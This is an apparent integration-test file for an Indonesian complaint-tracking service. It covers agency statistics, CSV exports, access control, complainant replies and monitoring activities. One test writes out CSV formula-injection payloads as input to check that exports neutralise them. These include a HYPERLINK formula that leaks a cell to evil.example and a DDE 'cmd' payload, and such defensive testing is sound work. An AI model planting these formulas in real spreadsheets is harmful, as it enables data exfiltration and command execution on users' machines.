/** Statistics and spreadsheet exports over HTTP. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  api,
  complaint,
  expectInvalid,
  forwardedCase,
  type RunningPantau,
  startPantau,
  users,
} from '../support/runtime.ts';

let pantau: RunningPantau;
let http: ReturnType<typeof api>;
let as: ReturnType<typeof users>;

beforeAll(async () => {
  pantau = await startPantau({
    env: { PANTAU_CLOCK: 'manual', PANTAU_CLOCK_START: '2026-05-04T03:00:00.000Z' },
  });
  http = api(pantau.url);
  as = users(pantau.url);
});
afterAll(async () => {
  await pantau?.stop();
});

describe('statistics over HTTP', () => {
  it('reports response rates per agency as JSON and CSV, and exports cases for people: by agenda number and agency name, WIB times, no identity, no tracking code', async () => {
    const central = await as('setneg', 'central_officer');
    const ids: string[] = [];
    const agendas: string[] = [];
    const codes: string[] = [];
    for (const agencies of [['polri', 'pln'], ['polri']]) {
      const created = await http.post('/v1/cases', complaint(), { token: central });
      ids.push(created.body.id);
      agendas.push(created.body.agendaNumber);
      codes.push(created.body.trackingCode);
      await http.post(
        `/v1/cases/${created.body.id}/verification`,
        { decision: 'accept', type: 'light' },
        { token: central },
      );
      await http.post(
        `/v1/cases/${created.body.id}/assignments`,
        { assignments: agencies.map((agencyId) => ({ agencyId })) },
        { token: central },
      );
    }
    const polri = await as('polri', 'agency_officer');
    await http.post(
      `/v1/cases/${ids[0]}/assignments/polri/responses`,
      { kind: 'final', message: 'Selesai.' },
      { token: polri },
    );

    const report = await http.get('/v1/stats/agencies?from=2026-05-01&to=2026-05-31', {
      token: central,
    });
    expect(report.status).toBe(200);
    const polriStats = report.body.items.find((s: { agencyId: string }) => s.agencyId === 'polri');
    expect(polriStats).toMatchObject({
      assigned: 2,
      responded: 1,
      respondedOnTime: 1,
      // The final answer met the acknowledgement target too.
      acknowledged: 1,
      acknowledgedOnTime: 1,
      completed: 1,
      responseRate: 0.5,
      acknowledgeOnTimeRate: 0.5,
      medianWorkingDaysToFirstResponse: 0,
      belowMinimumSample: true,
      rank: null,
    });
    expect(report.body.totals).toMatchObject({ assigned: 3, responded: 1 });
    expect(
      report.body.items.find((s: { agencyId: string }) => s.agencyId === 'setneg'),
    ).toBeUndefined();

    // The spreadsheets are read by people: Indonesian headers, agencies by name, WIB times.
    const csv = await http.get('/v1/stats/agencies.csv?from=2026-05-01&to=2026-05-31', {
      token: central,
    });
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.headers.get('content-disposition')).toContain(
      'filename="pantau-agencies-2026-05-01-2026-05-31.csv"',
    );
    const lines = csv.text.trim().split('\n');
    expect(lines[0]).toBe(
      'Instansi,Diteruskan,Bukan kewenangan,Ditarik sebelum tenggat,Dikonfirmasi,Dikonfirmasi tepat waktu,Ditanggapi,Tepat waktu,Tuntas,Tingkat tanggapan (%),Tingkat tepat waktu (%),Tingkat konfirmasi tepat waktu (%),Median hari kerja ke tanggapan pertama,Di bawah sampel minimum,Peringkat',
    );
    expect(lines).toContain(
      'Kepolisian Negara Republik Indonesia,2,0,0,1,1,1,1,1,50.00,50.00,50.00,0,Ya,',
    );
    expect(lines).toContain('PT PLN (Persero),1,0,0,0,0,0,0,0,0.00,0.00,0.00,,Ya,');
    expect(lines.at(-1)).toBe('Semua instansi,3,0,0,1,1,1,1,1,33.33,33.33,33.33,0,Tidak,');
    expect(csv.text).not.toMatch(/^(polri|pln|all),/m);

    // Received at 23:30 WIB on Sunday 3 May, and at 00:30 WIB on Monday 4 May (17:30 UTC on
    // the 3rd): each shows its own WIB date and time. The latter is closed as withdrawn.
    const late = await http.post(
      '/v1/cases',
      complaint({ subject: 'Diterima larut malam', receivedAt: '2026-05-03T16:30:00.000Z' }),
      { token: central },
    );
    const early = await http.post(
      '/v1/cases',
      complaint({ subject: 'Diterima dini hari', receivedAt: '2026-05-03T17:30:00.000Z' }),
      { token: central },
    );
    expect([late.status, early.status], early.text).toEqual([201, 201]);
    const closed = await http.post(
      `/v1/cases/${early.body.id}/close`,
      { outcome: 'withdrawn', note: 'Dicabut pengadu.' },
      { token: central },
    );
    expect(closed.status, closed.text).toBe(200);
    agendas.push(late.body.agendaNumber, early.body.agendaNumber);
    codes.push(late.body.trackingCode, early.body.trackingCode);

    const cases = await http.get('/v1/exports/cases.csv?from=2026-05-03&to=2026-05-04', {
      token: central,
    });
    expect(cases.headers.get('content-disposition')).toContain(
      'filename="pantau-cases-2026-05-03-2026-05-04.csv"',
    );
    const [header, ...rows] = parseCsv(cases.text);
    expect(header).toEqual([
      'Nomor agenda',
      'Diterima (WIB)',
      'Saluran',
      'Perihal',
      'Jenis pengaduan',
      'Kategori',
      'Instansi terkait',
      'Status',
      'Lewat tenggat',
      'Hasil penutupan',
      'Ditutup (WIB)',
    ]);
    const rowOf = (agenda: string) => rows.find((r) => r[0] === agenda);
    const subject = 'Sertifikat tanah tidak kunjung terbit';
    expect(rowOf(agendas[0]!)).toEqual([
      agendas[0],
      '2026-05-04 10:00',
      'Surat',
      subject,
      'Ringan',
      '',
      'PT PLN (Persero); Kepolisian Negara Republik Indonesia',
      'Ditindaklanjuti',
      'Tidak',
      '',
      '',
    ]);
    expect(rowOf(agendas[1]!)).toEqual([
      agendas[1],
      '2026-05-04 10:00',
      'Surat',
      subject,
      'Ringan',
      '',
      'Kepolisian Negara Republik Indonesia',
      'Diteruskan',
      'Tidak',
      '',
      '',
    ]);
    expect(rowOf(late.body.agendaNumber)?.slice(0, 4)).toEqual([
      late.body.agendaNumber,
      '2026-05-03 23:30',
      'Surat',
      'Diterima larut malam',
    ]);
    expect(rowOf(early.body.agendaNumber)).toEqual([
      early.body.agendaNumber,
      '2026-05-04 00:30',
      'Surat',
      'Diterima dini hari',
      '',
      '',
      '',
      'Ditutup',
      'Tidak',
      'Dicabut',
      '2026-05-04 10:00',
    ]);
    expect(rows).toHaveLength(4);
    // The case goes by its agenda number, not the internal id.
    for (const id of [...ids, late.body.id, early.body.id]) expect(cases.text).not.toContain(id);
    // The tracking code is the complainant's credential (it replies and closes the case as
    // them), and spreadsheets get forwarded: no complainant's code anywhere in the export.
    for (const code of codes) expect(code).toMatch(/^[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{5}$/);
    for (const code of codes) expect(cases.text).not.toContain(code);
    for (const secret of ['Siti Rahmawati', '5171034407850002', 'siti.rahmawati@example.com'])
      expect(cases.text).not.toContain(secret);
    const none = await http.get('/v1/exports/cases.csv?from=2026-04-01&to=2026-04-30', {
      token: central,
    });
    expect(none.text.trim().split('\n')).toHaveLength(1);

    expect((await http.get('/v1/stats/agencies', { token: polri })).status).toBe(403);
    expect((await http.get('/v1/exports/cases.csv', { token: polri })).status).toBe(403);
    expect((await http.get('/v1/stats/agencies')).status).toBe(401);
    const bad = await http.get('/v1/stats/agencies?from=2026-13-01', { token: central });
    expect(bad.status).toBe(400);
    expect(bad.body.errors[0].path).toBe('from');
    expect(
      (await http.get('/v1/stats/agencies?from=2026-06-01&to=2026-05-01', { token: central })).body
        .errors[0].path,
    ).toBe('from');
  });
});

/** RFC 4180 rows (quoted fields, doubled quotes, line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      endCell();
    } else if (!quoted && ch === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** What spreadsheets read as a formula at the start of a cell (OWASP; full-width forms too). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('the period and agency of a statistics or export request', () => {
  it('exports one agency’s cases when `agencyId` names it, and reads a `to` alone as that year from 1 January', async () => {
    const central = await as('setneg', 'central_officer');
    // Received on 10 March 2026 (WIB), a day no other test here registers a case on.
    const body = { receivedAt: '2026-03-10T03:00:00.000Z' };
    const both = await forwardedCase(http, central, ['polri', 'pln'], { body });
    const polriOnly = await forwardedCase(http, central, ['polri'], { body });
    const agendasOf = async (agencyId: string) => {
      const res = await http.get(
        `/v1/exports/cases.csv?from=2026-03-10&to=2026-03-10&agencyId=${agencyId}`,
        { token: central },
      );
      expect(res.status, res.text).toBe(200);
      return parseCsv(res.text)
        .slice(1)
        .map((r) => r[0])
        .sort();
    };
    expect(await agendasOf('pln')).toEqual([both.agendaNumber]);
    expect(await agendasOf('polri')).toEqual([both.agendaNumber, polriOnly.agendaNumber].sort());

    // Only `to`, in an earlier year: that year from 1 January, not a 400 about `from`.
    const lastYear = await http.get('/v1/stats/agencies?to=2025-12-31', { token: central });
    expect(lastYear.status, lastYear.text).toBe(200);
    expect(lastYear.body).toMatchObject({ from: '2025-01-01', to: '2025-12-31' });
    const lastYearCases = await http.get('/v1/exports/cases.csv?to=2025-12-31', {
      token: central,
    });
    expect(lastYearCases.status, lastYearCases.text).toBe(200);
    expect(parseCsv(lastYearCases.text)).toHaveLength(1);
  });
});

describe('spreadsheet exports neutralise formulas', () => {
  it('a subject or category that is a formula comes out as text in every CSV', async () => {
    const central = await as('setneg', 'central_officer');
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\uFF1D1+1', // ＝, the full-width equals sign some spreadsheets take for "="
    ];
    const agendas = new Map<string, string>();
    for (const subject of hostile) {
      const created = await http.post('/v1/cases', complaint({ subject }), { token: central });
      expect(created.status, created.text).toBe(201);
      agendas.set(created.body.agendaNumber, subject);
    }
    // A category set at verification, and a subject that a ';'-separated spreadsheet (the
    // Indonesian locale's) would split into a second cell starting with "=".
    const split = await http.post('/v1/cases', complaint({ subject: 'Laporan;=1+1' }), {
      token: central,
    });
    const verified = await http.post(
      `/v1/cases/${split.body.id}/verification`,
      { decision: 'accept', type: 'light', category: '=1+2' },
      { token: central },
    );
    expect(verified.status, verified.text).toBe(200);

    const res = await http.get('/v1/exports/cases.csv?from=2026-05-04&to=2026-05-04', {
      token: central,
    });
    expect(res.status, res.text).toBe(200);
    const [header, ...rows] = parseCsv(res.text);
    const column = (name: string) => header!.indexOf(name);
    for (const [agenda, subject] of agendas) {
      const row = rows.find((r) => r[0] === agenda)!;
      expect(row[column('Perihal')], subject).toBe(`'${subject}`);
    }
    const splitRow = rows.find((r) => r[0] === split.body.agendaNumber)!;
    expect(splitRow[column('Kategori')]).toBe("'=1+2");
    expect(splitRow[column('Perihal')]).toBe('Laporan;=1+1');
    expect(res.text).toContain('"Laporan;=1+1"'); // quoted: one cell whatever the separator

    const stats = await http.get('/v1/stats/agencies.csv?from=2026-05-01&to=2026-05-31', {
      token: central,
    });
    for (const csv of [res.text, stats.text]) {
      const cells = parseCsv(csv).flat();
      expect(cells.length).toBeGreaterThan(12);
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    }
  });
});

describe('complainant replies and monitoring activities over HTTP', () => {
  it('takes the complainant’s reply through the tracking code, and central’s activities', async () => {
    const central = await as('setneg', 'central_officer');
    const polri = await as('polri', 'agency_officer');
    const created = await http.post('/v1/cases', complaint(), { token: central });
    const { id, trackingCode } = created.body;
    await http.post(
      `/v1/cases/${id}/verification`,
      { decision: 'accept', type: 'light' },
      { token: central },
    );
    await http.post(
      `/v1/cases/${id}/assignments`,
      { assignments: [{ agencyId: 'polri' }] },
      { token: central },
    );
    const early = await http.post('/v1/track/reply', {
      code: trackingCode,
      satisfied: true,
      rating: 5,
    });
    expect(early.status).toBe(409);
    await http.post(
      `/v1/cases/${id}/assignments/polri/responses`,
      { kind: 'final', message: 'Selesai.' },
      { token: polri },
    );

    const tracked = await http.post('/v1/track', { code: trackingCode });
    expect(tracked.body).toMatchObject({ status: 'resolved' });
    expect(tracked.body.replyWindowClosesAt).toMatch(/Z$/);
    expect(
      (await http.post('/v1/track/reply', { code: trackingCode, satisfied: true, rating: 6 })).body
        .errors[0].path,
    ).toBe('rating');
    expect(
      (await http.post('/v1/track/reply', { code: 'ZZZZ-ZZZZ-ZZZZZ', satisfied: true, rating: 4 }))
        .status,
    ).toBe(404);
    const replied = await http.post('/v1/track/reply', {
      code: trackingCode,
      satisfied: false,
      rating: 2,
      message: 'Belum selesai.',
    });
    expect(replied.status).toBe(200);
    expect(replied.body).toMatchObject({ status: 'reopened', replyWindowClosesAt: null });
    expect(
      (await http.post('/v1/track/reply', { code: trackingCode, satisfied: true, rating: 5 }))
        .status,
    ).toBe(409);

    // Delegation: only the agency's coordinator, only to its own member units.
    const delegate = `/v1/cases/${id}/assignments/polri/delegate`;
    expect(
      (
        await http.post(
          delegate,
          { memberId: 'pemkot-jayapura' },
          { token: await as('pln', 'agency_coordinator') },
        )
      ).status,
    ).toBe(404);
    expect(
      (await http.post(delegate, { memberId: 'pemkot-jayapura' }, { token: polri })).status,
    ).toBe(403);
    expect(
      (
        await http.post(
          delegate,
          { memberId: 'Bad Id' },
          { token: await as('polri', 'agency_coordinator') },
        )
      ).body.errors[0].path,
    ).toBe('memberId');
    expect(
      (
        await http.post(
          delegate,
          { memberId: 'pln' },
          { token: await as('polri', 'agency_coordinator') },
        )
      ).status,
    ).toBe(400);
    expect((await http.post(delegate, { memberId: 'pln' }, { token: central })).status).toBe(403);

    const planned = await http.post(
      `/v1/cases/${id}/activities`,
      {
        kind: 'case_conference',
        scheduledAt: '2026-05-20T02:00:00.000Z',
        agencyIds: ['polri'],
        plan: 'Gelar pengaduan',
      },
      { token: central },
    );
    expect(planned.status).toBe(201);
    expect(planned.body).toMatchObject({ status: 'planned', kind: 'case_conference' });
    expect(
      (await http.post(`/v1/cases/${id}/activities`, { kind: 'picnic' }, { token: central })).body
        .errors[0].path,
    ).toBe('kind');
    expect(
      (await http.post(`/v1/cases/${id}/activities`, { kind: 'mediation' }, { token: polri }))
        .status,
    ).toBe(403);
    expect((await http.get(`/v1/cases/${id}`, { token: central })).body.underMonitoring).toBe(true);
    const calendar = await http.get('/v1/activities?status=planned', { token: central });
    expect(calendar.body.items.map((a: { id: string }) => a.id)).toContain(planned.body.id);
    // A period in WIB as a person types it: the same instants, whatever the offset.
    const inWib = await http.get(
      `/v1/activities?from=${encodeURIComponent('2026-05-20T08:00:00+07:00')}&to=${encodeURIComponent('2026-05-20T09:30:00+07:00')}`,
      { token: central },
    );
    expect(inWib.status, inWib.text).toBe(200);
    expect(inWib.body.items.map((a: { id: string }) => a.id)).toEqual([planned.body.id]);
    // A period backwards is the caller's mistake, named: not a 500.
    expectInvalid(
      await http.get('/v1/activities?from=2026-05-21T00:00:00Z&to=2026-05-01T00:00:00Z', {
        token: central,
      }),
      'from',
    );
    expect((await http.get('/v1/activities', { token: polri })).status).toBe(403);
    const reported = await http.post(
      `/v1/cases/${id}/activities/${planned.body.id}/report`,
      { heldAt: '2026-05-04T02:00:00.000Z', outcome: 'Sepakat', summary: 'Ditindaklanjuti ulang.' },
      { token: central },
    );
    expect(reported.body).toMatchObject({ status: 'done', outcome: 'Sepakat' });
    expect(
      (
        await http.post(
          `/v1/cases/${id}/activities/${planned.body.id}/report`,
          { heldAt: '2026-05-04T02:00:00.000Z', outcome: 'x', summary: 'x' },
          { token: central },
        )
      ).status,
    ).toBe(409);
  });
});
